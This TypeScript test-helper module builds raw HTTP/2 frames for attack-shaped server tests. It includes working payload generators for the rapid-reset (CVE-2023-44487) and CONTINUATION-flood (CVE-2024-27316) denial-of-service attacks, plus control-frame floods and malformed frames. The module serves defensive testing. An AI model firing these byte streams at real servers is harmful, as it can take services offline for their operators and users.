// Raw HTTP/2 frames for attack-shaped tests (RFC 9113 §4.1): what a hostile client writes,
// byte for byte, without a client library smoothing it over.
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

export const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, CONTINUATION: 9 } as const;

export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK block for GET http://<authority>/ (static-table indexes, literal authority). */
export function getHeaderBlock(authority: string): Buffer {
  const a = Buffer.from(authority, 'latin1');
  return Buffer.concat([Buffer.from([0x82, 0x86, 0x84, 0x01, a.length]), a]);
}

/**
 * The rapid-reset shape of CVE-2023-44487: preface, empty SETTINGS, then `n` pairs of
 * HEADERS(END_STREAM|END_HEADERS) + RST_STREAM(CANCEL), all in one write.
 */
export function rapidResetBytes(n: number, authority = '127.0.0.1'): Buffer {
  const block = getHeaderBlock(authority);
  const cancel = Buffer.from([0, 0, 0, 8]);
  const parts = [PREFACE, frame(FRAME.SETTINGS, 0, 0)];
  for (let i = 0; i < n; i++) parts.push(frame(FRAME.HEADERS, 0x5, 2 * i + 1, block), frame(FRAME.RST_STREAM, 0, 2 * i + 1, cancel));
  return Buffer.concat(parts);
}

/** Frame types and GOAWAY error codes in a server's answer. */
export function parseFrames(buf: Buffer): { type: number; flags: number; streamId: number; payload: Buffer }[] {
  const out = [];
  let i = 0;
  while (i + 9 <= buf.length) {
    const len = buf.readUIntBE(i, 3);
    if (i + 9 + len > buf.length) break;
    out.push({ type: buf[i + 3] as number, flags: buf[i + 4] as number, streamId: buf.readUInt32BE(i + 5) & 0x7fffffff, payload: buf.subarray(i + 9, i + 9 + len) });
    i += 9 + len;
  }
  return out;
}

/** HPACK integer with an N-bit prefix (RFC 7541 §5.1), first byte's high bits from `mask`. */
function hpackInt(n: number, prefixBits: number, mask: number): Buffer {
  const max = (1 << prefixBits) - 1;
  if (n < max) return Buffer.from([mask | n]);
  const out = [mask | max];
  n -= max;
  while (n >= 128) {
    out.push((n % 128) + 128);
    n = Math.floor(n / 128);
  }
  out.push(n);
  return Buffer.from(out);
}

/** A literal header field without indexing, new name (RFC 7541 §6.2.2), no Huffman. */
export function literalHeader(name: string, value: string): Buffer {
  const n = Buffer.from(name, 'latin1');
  const v = Buffer.from(value, 'latin1');
  return Buffer.concat([Buffer.from([0x00]), hpackInt(n.length, 7, 0), n, hpackInt(v.length, 7, 0), v]);
}

/** A header block split into HEADERS + CONTINUATION frames of at most `chunk` bytes on `streamId`. */
export function headerFrames(block: Buffer, streamId: number, chunk = 16_384, endStream = true): Buffer {
  const parts: Buffer[] = [];
  for (let o = 0; o === 0 || o < block.length; o += chunk) {
    const last = o + chunk >= block.length;
    const flags = (last ? 0x4 : 0) | (o === 0 && endStream ? 0x1 : 0);
    parts.push(frame(o === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, flags, streamId, block.subarray(o, o + chunk)));
  }
  return Buffer.concat(parts);
}

/**
 * The CONTINUATION flood of CVE-2024-27316: a HEADERS without END_HEADERS followed by `n`
 * CONTINUATION frames, none of which ends the block, each carrying a small header field.
 */
export function continuationFloodBytes(n: number, authority = '127.0.0.1'): Buffer {
  const field = literalHeader('x-flood', 'a'.repeat(100));
  const parts = [PREFACE, frame(FRAME.SETTINGS, 0, 0), frame(FRAME.HEADERS, 0x1, 1, getHeaderBlock(authority))];
  for (let i = 0; i < n; i++) parts.push(frame(FRAME.CONTINUATION, 0, 1, field));
  return Buffer.concat(parts);
}

/** `n` frames the server must answer (SETTINGS → ACK, PING → PING ACK), after the preface. */
export function controlFloodBytes(kind: 'settings' | 'ping', n: number): Buffer {
  const one = kind === 'settings' ? frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])) : frame(FRAME.PING, 0, 0, Buffer.alloc(8));
  return Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0), ...Array.from({ length: n }, () => one)]);
}

const settings = frame(FRAME.SETTINGS, 0, 0);
/**
 * Connection errors (RFC 9113 §5.4.1) of the kind h2spec sends, after a valid preface: the
 * ones after which Node 20 left the socket open (after some others, e.g. HEADERS on a server
 * stream or a PING on a stream, Node closes the session itself).
 */
export const CONNECTION_ERRORS: Record<string, Buffer> = {
  'DATA on stream 0': Buffer.concat([PREFACE, settings, frame(FRAME.DATA, 0, 0, Buffer.from('x'))]),
  'SETTINGS with a length not a multiple of 6': Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(5))]),
  'SETTINGS ACK with a payload': Buffer.concat([PREFACE, settings, frame(FRAME.SETTINGS, 0x1, 0, Buffer.alloc(6))]),
  'a frame over the maximum frame size': Buffer.concat([PREFACE, settings, frame(FRAME.DATA, 0, 1, Buffer.alloc(16_385))]),
  'CONTINUATION without HEADERS': Buffer.concat([PREFACE, settings, frame(FRAME.CONTINUATION, 0x4, 1, getHeaderBlock('a'))]),
};
